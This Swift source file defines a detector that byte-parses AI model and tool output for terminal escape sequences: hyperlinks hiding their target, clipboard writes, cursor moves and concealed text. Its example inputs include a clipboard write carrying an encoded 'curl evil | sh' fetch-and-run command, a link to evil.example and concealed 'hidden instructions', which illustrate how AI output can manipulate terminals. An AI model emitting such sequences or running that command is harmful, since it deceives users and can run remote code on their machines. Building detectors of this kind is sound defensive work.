/// Finds terminal escape sequences and fake shell prompts in output that
/// will reach a terminal: OSC 8 hyperlinks (the shown text hides the real
/// target), OSC 52 clipboard writes, window-title sets, cursor moves and
/// concealed text that hide or overwrite what the user sees (high), and
/// plain colour, bell, backspace and line-erase codes (low: real tool output
/// is full of them, so they are reported, as the original does, but only
/// logged; the step's threshold is 0.2 so that they pass it).
///
/// Why a byte parser and not patterns: escape sequences have a small,
/// exact grammar (ECMA-48: ESC [ params final, ESC ] … BEL/ST), and the
/// parser classifies each sequence by its final byte and parameters.
public struct ShellBleedStep: Step {
  public static let descriptor = StepDescriptor(
    id: "shell_bleed",
    title: "Detect Terminal Escapes",
    summary: "Finds OSC 8 links, OSC 52 clipboard writes, cursor moves, concealed text and fake shell prompts in output.",
    rationale: "Escape sequences in model or tool output can rewrite what a terminal shows or put commands in the clipboard.",
    phase: .afterCall, category: .output, position: 730, defaultAction: .block,
    reads: [.output, .toolResult, .text], defaultThreshold: 0.2,
    examples: [
      StepExample("Done «osc52_clipboard:\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}»", role: .output),
      StepExample("«osc8_hyperlink:\u{1B}]8;;https://evil.example/\u{07}»docs«osc8_hyperlink:\u{1B}]8;;\u{07}»"),
      StepExample("safe text«cursor_movement:\u{1B}[1A»«erase:\u{1B}[2J»"),
      StepExample("«sgr_conceal:\u{1B}[8m»hidden instructions"),
      StepExample("«osc_title:\u{1B}]0;owned\u{07}»", role: .output),
      StepExample("PASS «sgr:\u{1B}[32m»ok«sgr:\u{1B}[0m» 12 tests", role: .output),
      StepExample("  ◦ compiles: «erase:\u{1B}[2K»«cursor_movement:\u{1B}[0G»  ✓ compiles", role: .output),
      StepExample("plain output without escapes"),
    ])

  static let maxFindings = 64

  public init(configuration: NoConfiguration) {}

  public func inspect(_ field: FieldText, matches: [PatternMatch], context: inout InspectionContext) -> [Candidate] {
    field.bytes.withUnsafeBufferPointer { Self.scan($0) }
  }

  static func scan(_ bytes: UnsafeBufferPointer<UInt8>) -> [Candidate] {
    var candidates: [Candidate] = []
    var index = 0
    let count = bytes.count
    func add(_ type: String, _ start: Int, _ end: Int, _ score: Double, _ severity: Severity) {
      // Back-to-back sequences of one type are one finding (a run of cursor
      // moves hides one thing), and a flood is reported as its first
      // `maxFindings` runs, the last extended to the end of the flood.
      if let last = candidates.last, last.type == type, last.end == start {
        candidates[candidates.count - 1].end = end
        return
      }
      if candidates.count >= maxFindings {
        candidates[candidates.count - 1].end = max(candidates[candidates.count - 1].end, end)
        return
      }
      candidates.append(Candidate(start: start, end: end, type: type, score: score, severity: severity, category: type, reasons: ["escape:" + type]))
    }
    while index < count {
      // Eight bytes at a time past text that holds none of the bytes below
      // (all under 0x20 but the C1 controls' 0xC2; SWAR tests as in
      // JSONString.plainRun): the byte-by-byte tests were all of the
      // step's cost on text without escapes (callgrind).
      if let base = bytes.baseAddress {
        let ones: UInt64 = 0x0101_0101_0101_0101
        while index + 8 <= count {
          let word = UnsafeRawPointer(base + index).loadUnaligned(as: UInt64.self)
          let c1 = word ^ 0xC2C2_C2C2_C2C2_C2C2
          if ((word &- 0x2020_2020_2020_2020) & ~word | (c1 &- ones) & ~c1) & 0x8080_8080_8080_8080 != 0 { break }
          index += 8
        }
        if index == count { break }
      }
      let byte = bytes[index]
      // ESC, or the C1 controls CSI (U+009B) and OSC (U+009D) in UTF-8.
      var introducer = 0
      var kind: UInt8 = 0
      if byte == 0x1B, index + 1 < count {
        introducer = 2
        kind = bytes[index + 1]
      } else if byte == 0x1B {
        add("csi_other", index, index + 1, 0.6, .medium)
        index += 1
        continue
      } else if byte == 0xC2, index + 1 < count, bytes[index + 1] == 0x9B || bytes[index + 1] == 0x9D {
        introducer = 2
        kind = bytes[index + 1] == 0x9B ? 0x5B : 0x5D
      } else if byte == 0x08 {
        add("backspace", index, index + 1, 0.3, .low)
        index += 1
        continue
      } else if byte == 0x07 {
        add("bel", index, index + 1, 0.3, .low)
        index += 1
        continue
      } else {
        index += 1
        continue
      }
      let start = index
      var position = index + introducer
      switch kind {
      case 0x5B:  // CSI: parameters 0x30–0x3F, intermediates 0x20–0x2F, final 0x40–0x7E
        let parameters = position
        while position < count, bytes[position] >= 0x30 && bytes[position] <= 0x3F { position += 1 }
        let parameterEnd = position
        while position < count, bytes[position] >= 0x20 && bytes[position] <= 0x2F { position += 1 }
        guard position < count, bytes[position] >= 0x40 && bytes[position] <= 0x7E else {
          add("csi_other", start, position, 0.6, .medium)
          index = max(position, start + 1)
          continue
        }
        let final = bytes[position]
        position += 1
        let params = Array(bytes[parameters..<parameterEnd])
        switch final {
        case 0x6D:  // m: SGR
          if sgrConceals(params) { add("sgr_conceal", start, position, 0.9, .high) } else { add("sgr", start, position, 0.2, .low) }
        case 0x41, 0x42, 0x43, 0x44, 0x45, 0x46, 0x48, 0x66, 0x64, 0x73, 0x75:  // cursor up/down/…/position/save/restore
          add("cursor_movement", start, position, 0.85, .high)
        case 0x47:  // G: column only, progress redraw
          add("cursor_movement", start, position, 0.3, .low)
        case 0x4A:  // J: erase display
          add("erase", start, position, params.isEmpty || params == [0x30] ? 0.3 : 0.8, params.isEmpty || params == [0x30] ? .low : .high)
        case 0x4B:  // K: erase line, progress redraw
          add("erase", start, position, 0.3, .low)
        default:
          add("csi_other", start, position, 0.6, .medium)
        }
        index = position
      case 0x5D:  // OSC: until BEL or ST (ESC \)
        var end = position
        var terminated = false
        while end < count {
          if bytes[end] == 0x07 { end += 1; terminated = true; break }
          if bytes[end] == 0x1B, end + 1 < count, bytes[end + 1] == 0x5C { end += 2; terminated = true; break }
          if bytes[end] == 0xC2, end + 1 < count, bytes[end + 1] == 0x9C { end += 2; terminated = true; break }
          end += 1
        }
        if !terminated { end = count }
        var number = 0
        var digits = position
        while digits < count, digits < position + 4, bytes[digits] >= 0x30 && bytes[digits] <= 0x39 {
          number = number * 10 + Int(bytes[digits] - 0x30)
          digits += 1
        }
        let hasNumber = digits > position
        switch (hasNumber, number) {
        case (true, 8): add("osc8_hyperlink", start, end, 0.9, .high)
        case (true, 52): add("osc52_clipboard", start, end, 0.95, .high)
        case (true, 0), (true, 1), (true, 2): add("osc_title", start, end, 0.7, .medium)
        default: add("osc_other", start, end, 0.6, .medium)
        }
        index = end
      case 0x50, 0x5E, 0x5F, 0x58:  // DCS, PM, APC, SOS: strings a terminal may act on
        var end = position
        while end < count, !(bytes[end] == 0x1B && end + 1 < count && bytes[end + 1] == 0x5C), bytes[end] != 0x07 { end += 1 }
        end = min(end + 2, count)
        add("osc_other", start, end, 0.7, .medium)
        index = end
      default:  // two-byte escapes (ESC 7/8 save/restore cursor, ESC c reset)
        let type = kind == 0x37 || kind == 0x38 ? "cursor_movement" : "csi_other"
        add(type, start, start + 2, type == "cursor_movement" ? 0.85 : 0.6, type == "cursor_movement" ? .high : .medium)
        index = start + 2
      }
    }
    return candidates
  }

  /// SGR parameter 8 (conceal) anywhere in the list.
  static func sgrConceals(_ params: [UInt8]) -> Bool {
    params.split(separator: 0x3B, omittingEmptySubsequences: false).contains { $0.elementsEqual([0x38]) }
  }
}
